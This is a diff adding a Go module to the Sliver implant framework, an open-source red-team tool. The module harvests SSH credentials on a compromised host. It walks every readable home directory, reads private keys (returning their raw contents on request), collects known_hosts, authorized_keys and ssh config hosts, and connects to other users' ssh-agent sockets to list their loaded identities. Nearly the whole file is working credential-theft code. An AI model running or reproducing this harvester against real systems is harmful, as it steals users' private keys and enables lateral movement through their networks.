@@ -0,0 +1,346 @@
+package sshkeys
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bufio"
+	"bytes"
+	"errors"
+	"net"
+	"os"
+	"os/user"
+	"path/filepath"
+	"strings"
+	"time"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"golang.org/x/crypto/ssh"
+	"golang.org/x/crypto/ssh/agent"
+)
+
+const (
+	privateKey     = "private"
+	publicKey      = "public"
+	authorizedKeys = "authorized_keys"
+	knownHosts     = "known_hosts"
+	sshConfig      = "config"
+
+	maxFileSize  = 1024 * 1024
+	agentTimeout = 5 * time.Second
+)
+
+var (
+	errFileTooLarge = errors.New("file too large")
+)
+
+// home - A user's home directory
+type home struct {
+	User string
+	Dir  string
+}
+
+// agentSocket - An agent socket, Pid is the process it was found in
+type agentSocket struct {
+	Path string
+	Pid  int32
+}
+
+// Harvest - Enumerate the ~/.ssh files of every home directory we can read and,
+// optionally, the identities loaded in every agent socket we can connect to
+func Harvest(username string, keys bool, agents bool) *sliverpb.SSHHarvest {
+	harvest := &sliverpb.SSHHarvest{}
+	for _, home := range homes() {
+		if username != "" && home.User != username {
+			continue
+		}
+		userKeys := readUserKeys(home, keys)
+		if userKeys != nil {
+			harvest.Users = append(harvest.Users, userKeys)
+		}
+	}
+	if agents {
+		for _, socket := range agentSockets() {
+			sshAgent := listAgent(socket)
+			if username != "" && sshAgent.Owner != username {
+				continue
+			}
+			harvest.Agents = append(harvest.Agents, sshAgent)
+		}
+	}
+	return harvest
+}
+
+// readUserKeys - The files in a home's .ssh directory, nil if it doesn't have one
+func readUserKeys(home home, keys bool) *sliverpb.SSHUserKeys {
+	sshDir := filepath.Join(home.Dir, ".ssh")
+	entries, err := os.ReadDir(sshDir)
+	if errors.Is(err, os.ErrNotExist) {
+		return nil
+	}
+	userKeys := &sliverpb.SSHUserKeys{User: home.User, Home: home.Dir, Files: []*sliverpb.SSHKeyFile{}}
+	if err != nil {
+		userKeys.Error = err.Error()
+		return userKeys
+	}
+	for _, entry := range entries {
+		if entry.IsDir() {
+			continue
+		}
+		keyFile := readKeyFile(filepath.Join(sshDir, entry.Name()), keys)
+		if keyFile != nil {
+			userKeys.Files = append(userKeys.Files, keyFile)
+		}
+	}
+	return userKeys
+}
+
+// readKeyFile - Parse an ssh file, nil if it's not one we know about
+func readKeyFile(path string, keys bool) *sliverpb.SSHKeyFile {
+	info, err := os.Stat(path)
+	if err != nil || !info.Mode().IsRegular() {
+		return nil
+	}
+	var data []byte
+	if maxFileSize < info.Size() {
+		err = errFileTooLarge
+	} else {
+		data, err = os.ReadFile(path)
+	}
+	keyFile := &sliverpb.SSHKeyFile{Path: path, Type: fileType(filepath.Base(path), data)}
+	if err != nil {
+		// We can't sniff private keys we can't read, so only report the well known names
+		if keyFile.Type == "" && !strings.HasPrefix(filepath.Base(path), "id_") {
+			return nil
+		}
+		if keyFile.Type == "" {
+			keyFile.Type = privateKey
+		}
+		keyFile.Error = err.Error()
+		return keyFile
+	}
+
+	switch keyFile.Type {
+	case privateKey:
+		signer, err := ssh.ParsePrivateKey(data)
+		if missing, ok := err.(*ssh.PassphraseMissingError); ok {
+			keyFile.Encrypted = true
+			if missing.PublicKey != nil {
+				setPublicKey(keyFile, missing.PublicKey)
+			}
+		} else if err != nil {
+			keyFile.Error = err.Error()
+		} else {
+			setPublicKey(keyFile, signer.PublicKey())
+		}
+		if keys {
+			keyFile.Data = data
+		}
+	case publicKey:
+		pubKey, comment, _, _, err := ssh.ParseAuthorizedKey(data)
+		if err != nil {
+			keyFile.Error = err.Error()
+		} else {
+			setPublicKey(keyFile, pubKey)
+			keyFile.Comment = comment
+		}
+	case authorizedKeys:
+		keyFile.Hosts = parseAuthorizedKeys(data)
+	case knownHosts:
+		keyFile.Hosts, keyFile.HashedHosts = parseKnownHosts(data)
+	case sshConfig:
+		keyFile.Hosts = parseConfigHosts(data)
+	default:
+		return nil
+	}
+	return keyFile
+}
+
+func setPublicKey(keyFile *sliverpb.SSHKeyFile, pubKey ssh.PublicKey) {
+	keyFile.KeyType = pubKey.Type()
+	keyFile.Fingerprint = ssh.FingerprintSHA256(pubKey)
+}
+
+// fileType - Classify a file in .ssh by its name, or its contents for private keys
+func fileType(name string, data []byte) string {
+	switch {
+	case strings.HasPrefix(name, authorizedKeys):
+		return authorizedKeys
+	case strings.HasPrefix(name, knownHosts):
+		return knownHosts
+	case name == sshConfig:
+		return sshConfig
+	case strings.HasSuffix(name, ".pub"):
+		return publicKey
+	case bytes.Contains(data, []byte("PRIVATE KEY-----")):
+		return privateKey
+	}
+	return ""
+}
+
+// parseKnownHosts - The hosts in a known_hosts file, hashed hosts are only counted
+func parseKnownHosts(data []byte) ([]string, int32) {
+	hosts := []string{}
+	hashed := int32(0)
+	seen := map[string]bool{}
+	scanner := bufio.NewScanner(bytes.NewReader(data))
+	for scanner.Scan() {
+		fields := strings.Fields(scanner.Text())
+		if len(fields) == 0 || strings.HasPrefix(fields[0], "#") {
+			continue
+		}
+		// Skip the @cert-authority / @revoked markers
+		if strings.HasPrefix(fields[0], "@") {
+			fields = fields[1:]
+			if len(fields) == 0 {
+				continue
+			}
+		}
+		for _, host := range strings.Split(fields[0], ",") {
+			if strings.HasPrefix(host, "|1|") {
+				hashed++
+				continue
+			}
+			if host != "" && !seen[host] {
+				seen[host] = true
+				hosts = append(hosts, host)
+			}
+		}
+	}
+	return hosts, hashed
+}
+
+// parseConfigHosts - The Host aliases (without patterns) and HostNames in an ssh config
+func parseConfigHosts(data []byte) []string {
+	hosts := []string{}
+	seen := map[string]bool{}
+	scanner := bufio.NewScanner(bytes.NewReader(data))
+	for scanner.Scan() {
+		fields := strings.Fields(strings.Replace(scanner.Text(), "=", " ", 1))
+		if len(fields) < 2 {
+			continue
+		}
+		keyword := strings.ToLower(fields[0])
+		if keyword != "host" && keyword != "hostname" {
+			continue
+		}
+		for _, host := range fields[1:] {
+			if strings.ContainsAny(host, "*?!") || seen[host] {
+				continue
+			}
+			seen[host] = true
+			hosts = append(hosts, host)
+		}
+	}
+	return hosts
+}
+
+// parseAuthorizedKeys - The comments of the authorized keys, usually user@host of
+// where they're used from
+func parseAuthorizedKeys(data []byte) []string {
+	comments := []string{}
+	for 0 < len(data) {
+		_, comment, _, rest, err := ssh.ParseAuthorizedKey(data)
+		if err != nil {
+			break
+		}
+		if comment != "" {
+			comments = append(comments, comment)
+		}
+		data = rest
+	}
+	return comments
+}
+
+// agentSockets - Agent sockets from our environment, the environment of other
+// processes, and the well known socket locations
+func agentSockets() []agentSocket {
+	sockets := []agentSocket{}
+	seen := map[string]bool{}
+	add := func(path string, pid int32) {
+		if seen[path] {
+			return
+		}
+		info, err := os.Stat(path)
+		if err != nil || info.Mode()&os.ModeSocket == 0 {
+			return
+		}
+		seen[path] = true
+		sockets = append(sockets, agentSocket{Path: path, Pid: pid})
+	}
+	if socket := os.Getenv("SSH_AUTH_SOCK"); socket != "" {
+		add(socket, int32(os.Getpid()))
+	}
+	for _, socket := range processSockets() {
+		add(socket.Path, socket.Pid)
+	}
+	for _, pattern := range agentSocketPatterns {
+		matches, _ := filepath.Glob(pattern)
+		for _, match := range matches {
+			add(match, 0)
+		}
+	}
+	return sockets
+}
+
+// listAgent - List the identities loaded in an agent
+func listAgent(socket agentSocket) *sliverpb.SSHAgent {
+	sshAgent := &sliverpb.SSHAgent{
+		Socket:     socket.Path,
+		Pid:        socket.Pid,
+		Identities: []*sliverpb.SSHAgentIdentity{},
+	}
+	if info, err := os.Stat(socket.Path); err == nil {
+		sshAgent.Owner = fileOwner(info)
+	}
+	conn, err := net.DialTimeout("unix", socket.Path, agentTimeout)
+	if err != nil {
+		sshAgent.Error = err.Error()
+		return sshAgent
+	}
+	defer conn.Close()
+	conn.SetDeadline(time.Now().Add(agentTimeout))
+	keys, err := agent.NewClient(conn).List()
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("Failed to list agent %s: %s", socket.Path, err)
+		// {{end}}
+		sshAgent.Error = err.Error()
+		return sshAgent
+	}
+	for _, key := range keys {
+		identity := &sliverpb.SSHAgentIdentity{KeyType: key.Format, Comment: key.Comment}
+		if pubKey, err := ssh.ParsePublicKey(key.Blob); err == nil {
+			identity.Fingerprint = ssh.FingerprintSHA256(pubKey)
+		}
+		sshAgent.Identities = append(sshAgent.Identities, identity)
+	}
+	return sshAgent
+}
+
+func lookupUsername(uid string) string {
+	owner, err := user.LookupId(uid)
+	if err != nil {
+		return uid
+	}
+	return owner.Username
+}